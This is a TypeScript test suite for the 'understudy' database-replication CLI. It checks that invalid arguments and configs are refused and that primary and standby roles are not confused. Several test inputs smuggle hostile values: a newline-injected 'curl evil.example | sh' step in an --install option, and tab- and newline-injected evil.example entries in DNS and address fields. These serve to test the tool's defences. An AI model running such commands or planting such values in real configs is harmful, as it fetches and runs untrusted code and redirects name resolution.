import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { MAX_CONFIG_BYTES } from "../src/config/load";
import { digestDatabase } from "../src/fleet/rowHash";
import { cli, tempDir, waitFor } from "./helpers/env";
import { makeFleet, SMALL_FLEET, startPrimary } from "./helpers/fleet";
import { followProcess, readFollowStateFile, standbyNode } from "./helpers/standby";

/** A user's mistake: exit 2, one line naming the command, no stack trace. */
function assertUserError(r: { code: number; stdout: string; stderr: string }, command: string, what: RegExp): void {
  assert.equal(r.code, 2, `${command}: ${r.stderr}${r.stdout}`);
  const lines = r.stderr.trim().split("\n");
  assert.equal(lines.length, 1, `${command}: one line, got ${r.stderr}`);
  assert.ok(lines[0].startsWith(`understudy ${command}: `), lines[0]);
  assert.ok(!lines[0].slice(`understudy ${command}: `.length).startsWith("understudy "), `prefix once: ${lines[0]}`);
  assert.doesNotMatch(r.stderr, /\n\s+at |TypeError|ReferenceError/);
  assert.match(lines[0], what);
}

test("arguments and configs that must be refused: exit 2, one line, nothing written", async (t) => {
  const dir = tempDir(t, "refuse");
  const { file } = await makeFleet(dir, SMALL_FLEET.slice(0, 1));
  const aFile = join(dir, "plain-file");
  writeFileSync(aFile, "x");
  const huge = join(dir, "huge.yml");
  writeFileSync(huge, `# ${"x".repeat(MAX_CONFIG_BYTES)}\n`);
  mkdirSync(join(dir, "a-dir.yml"));
  const cases: [string[], string, RegExp][] = [
    [["validate", "--config", join(dir, "a-dir.yml")], "validate", /a-dir\.yml: is not a file/],
    [["validate", "--config", huge], "validate", /larger than a config file can be/],
    [["validate", "--config", file, "--node", "nosuch"], "validate", /no node named "nosuch"/],
    [["verify", "--config", file, "--node", "nosuch"], "verify", /no node named "nosuch"/],
    [["verify", "--config", file, "--timeout", "0s"], "verify", /--timeout: "0s"/],
    [["discover", dir, "--depth", "abc"], "discover", /--depth: expected a whole number from 0 to 32, not "abc"/],
    [["demo", "--scale", "abc"], "demo", /--scale: expected a number/],
    [["validate", "--config", file, "--bogus"], "validate", /Unknown option '--bogus'/],
    [["init", "-o", join(aFile, "understudy.yml")], "init", /plain-file is a file, not a directory/],
    [["render", "litestream", "--config", file, "-o", join(aFile, "x.yml")], "render", /is a file, not a directory/],
    [
      ["heartbeat", "once", "http://127.0.0.1:1/health", "--state", join(aFile, "hb.json")],
      "heartbeat",
      /--state .* is a file, not a directory/,
    ],
    [
      ["replicate", "--config", file, "--metrics-listen", "abc"],
      "replicate",
      /--metrics-listen: "abc" is not HOST:PORT/,
    ],
    [
      ["discovery", "serve-dns", "--config", file, "--listen", "127.0.0.1:99999"],
      "discovery",
      /port 99999 is out of range/,
    ],
    [["render", "github-workflow", "--interval", "1x"], "render", /--interval: "1x" is not a duration/],
    [
      ["render", "github-workflow", "--install", "npm i -g understudy\n    - run: curl evil.example | sh"],
      "render",
      /--install: one shell command on one line/,
    ],
    [
      ["render", "systemd", "replicate", "--config", file, "--inline-secrets"],
      "render",
      /--inline-secrets is for launchd/,
    ],
    [
      ["discovery", "point", "anvil.alai", "--address", "1.2.3.4\n6.6.6.6\tevil.example", "--config", file],
      "discovery",
      /is not an IP address/,
    ],
    [
      ["discovery", "point", "anvil.alai\tevil", "--address", "1.2.3.4", "--config", file],
      "discovery",
      /is not a DNS name/,
    ],
  ];
  for (const [args, command, what] of cases) {
    const r = await cli(args, { cwd: dir });
    assertUserError(r, command, what);
  }
});

test("role mix-ups: follow on the primary and replicate on the standby are refused; the follower never replaces a file it did not make", async (t) => {
  const dir = tempDir(t, "roles");
  const entries = SMALL_FLEET.slice(0, 2);
  const names = entries.map((e) => e.name);
  const { cfg, file, dataDir } = await makeFleet(dir, entries);
  const before = names.map((n) => digestDatabase(join(dataDir, n)).hash);
  const follow = await cli(["follow", "--config", file, "--node", "primary", "--metrics-listen", ""]);
  assertUserError(follow, "follow", /node "primary": it is the primary; understudy follow runs only on the standby/);
  const replicate = await cli(["replicate", "--config", file, "--node", "standby"]);
  assertUserError(
    replicate,
    "replicate",
    /node "standby": it is the standby; understudy replicate runs only on the primary/,
  );
  const unit = await cli(["render", "launchd", "follow", "--config", file, "--node", "primary"]);
  assertUserError(unit, "render", /understudy follow runs only on the standby/);
  assert.deepEqual(
    names.map((n) => digestDatabase(join(dataDir, n)).hash),
    before,
    "no database changed",
  );

  // The standby's data dir holds a database it did not make (the primary's, copied there; or a wrong
  // --data-dir): it is left exactly as it is, and status says why, while the other copy is followed.
  const { r, load } = await startPrimary(t, cfg, names, 5);
  const stranger = join(standbyNode(cfg).dataDir, names[0]);
  mkdirSync(standbyNode(cfg).dataDir, { recursive: true });
  writeFileSync(stranger, "");
  const { createDatabase } = await import("../src/demo/fleet");
  createDatabase(stranger, 30_000);
  const strangerHash = digestDatabase(stranger).hash;
  const f = followProcess(t, file);
  await waitFor("the other copy followed and the stranger reported", () => {
    const s = readFollowStateFile(cfg);
    const a = s?.databases.find((d) => d.name === names[0]);
    const b = s?.databases.find((d) => d.name === names[1]);
    return b?.phase === "following" && a?.phase === "stalled" && /did not make it/.test(a.lastError?.message ?? "");
  });
  await new Promise((res) => setTimeout(res, 2000));
  assert.equal(digestDatabase(stranger).hash, strangerHash, "the file it did not make is untouched");
  const status = await cli(["status", "--config", file, "--node", "standby"]);
  assert.equal(status.code, 1);
  assert.match(
    status.stdout,
    /exists but this follower did not make it .* left untouched; if it is an old copy, move it away/,
  );
  load.stop();
  await r.stop();
  f.child.kill("SIGTERM");
  assert.equal(await f.exited, 0, f.stderr());
});
